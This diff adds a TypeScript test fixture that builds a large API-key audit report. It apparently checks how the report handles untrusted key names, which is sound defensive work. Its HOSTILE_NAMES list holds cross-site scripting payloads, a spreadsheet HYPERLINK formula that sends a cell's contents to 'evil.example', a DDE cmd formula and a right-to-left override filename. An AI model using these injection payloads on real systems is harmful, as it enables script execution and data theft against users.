@@ -1,0 +1,113 @@
+import { createAudit } from '../../governance/audit/audit.js';
+import type { Coverage } from '../../governance/audit/coverage.js';
+import { reconcileFindings } from '../../governance/audit/reconcile-findings.js';
+import { type AuditReport, auditReport } from '../../governance/audit/report/audit-report.js';
+import { createInventory } from '../../governance/audit/report/inventory.js';
+import type { SecretState } from '../../governance/keys/rotation.js';
+import type { ListedKey } from '../../governance/mistral/mistral.js';
+import { addDays, startOfDay, utcDay } from '../../governance/platform/utc-day.js';
+import { createdKeyName } from '../../governance/policy/key-name.js';
+import { plannedKeys } from '../../governance/policy/planned-keys.js';
+import type { Policy } from '../../governance/policy/policy.js';
+
+const AT = new Date('2026-06-30T02:00:00Z');
+const TODAY = utcDay(AT);
+const VERSION_ID = 'aaaaaaaa-0000-4000-8000-000000000001';
+
+/** Names that a user may give a key at Mistral, to see what becomes of them. */
+const HOSTILE_NAMES = [
+  '<script>alert(document.domain)</script>',
+  '"><img src=x onerror=alert(1)>',
+  '=HYPERLINK("https://evil.example/?"&A1,\'open\')',
+  '@SUM(1+1)*cmd|"/C calc"!A0',
+  '</style></title><svg onload=alert(1)>',
+  `one-word-${'x'.repeat(200)}`,
+  'שלום \u202Egnp.exe 你好 🗝️',
+  '',
+];
+
+/** Of an audit that could check everything. */
+export const FULL_COVERAGE: Extract<Coverage, { source: 'admin-api' }> = {
+  source: 'admin-api',
+  allKeys: true,
+  retirements: true,
+  workspaces: true,
+  rateLimit: true,
+  spendLimit: true,
+  models: true,
+  unclearSecrets: new Set(),
+};
+
+/** The report of a large organization, with every kind of key and most kinds of findings. */
+export function largeReport(policy: Policy, otherKeys: number): AuditReport {
+  const planned = plannedKeys(policy);
+  const secrets = new Map(
+    planned.map(({ secretName }, i) => [secretName, secretState(secretName, i)]),
+  );
+  const workspaces = new Map(policy.workspaces.map((workspace) => [workspace.id, workspace]));
+  const facts = { planned, secrets, retiring: new Set(['key-1']), workspaces };
+  const audit = createAudit(facts, policy.audit, AT);
+  const inventory = createInventory(facts, policy.audit, AT);
+  for (const key of keysOf(policy, otherKeys)) inventory.add(key, audit.check(key));
+  const view = { complete: true, changing: new Set<string>() };
+  const current = audit.findings(view);
+  return auditReport({
+    inventory: inventory.build(view, current),
+    changes: reconcileFindings({
+      before: current.slice(1, 40).map((finding) => ({
+        finding,
+        openedOn: addDays(TODAY, -3),
+        lastNotifiedOn: addDays(TODAY, -3),
+      })),
+      current: current.filter((_, i) => i % 9 !== 1),
+      coverage: FULL_COVERAGE,
+      remindEveryDays: 7,
+      now: AT,
+    }),
+    complete: true,
+    rules: policy.audit,
+    problems: ["Mistral's rate limit could not be read: <b>503</b> upstream connect error"],
+    at: AT,
+  });
+}
+
+function secretState(name: string, index: number): SecretState {
+  const rotatedOn = addDays(TODAY, -((index * 17) % 97));
+  return {
+    arn: `arn:aws:secretsmanager:eu-west-1:111122223333:secret:${name}-AbCdEf`,
+    name,
+    rotationEnabled: true,
+    stagesByVersion: { [VERSION_ID]: ['AWSCURRENT'] },
+    createdAt: startOfDay(rotatedOn),
+    lastRotatedAt: startOfDay(rotatedOn),
+    nextRotationAt: startOfDay(addDays(rotatedOn, 90)),
+  };
+}
+
+function* keysOf(policy: Policy, otherKeys: number): Generator<ListedKey> {
+  for (const [index, { key, workspace }] of plannedKeys(policy).entries()) {
+    if (index === 2) continue; // a key that is missing
+    const createdOn = addDays(TODAY, -((index * 17) % 97));
+    yield {
+      id: `key-${index}`,
+      name: createdKeyName(key.name, createdOn, VERSION_ID),
+      workspaceId: workspace.id,
+      workspaceName: workspace.name,
+      createdAt: startOfDay(createdOn),
+      expiresOn: addDays(createdOn, 111),
+      lastUsedOn: TODAY,
+    };
+  }
+  for (let index = 0; index < otherKeys; index += 1) {
+    const createdOn = addDays(TODAY, -((index * 7919) % 420));
+    yield {
+      id: `9a4d7c1e-3b58-4f6a-8f0e-${String(index).padStart(12, '0')}`,
+      name: HOSTILE_NAMES[index] ?? `service ${index}`,
+      workspaceId: policy.workspaces[index % 7]?.id,
+      workspaceName: `workspace ${index % 7}`,
+      createdAt: index % 50 === 11 ? undefined : startOfDay(createdOn),
+      expiresOn: index % 6 === 0 ? undefined : addDays(TODAY, ((index * 13) % 200) - 20),
+      lastUsedOn: index % 5 === 0 ? undefined : addDays(TODAY, -((index * 31) % 120)),
+    };
+  }
+}
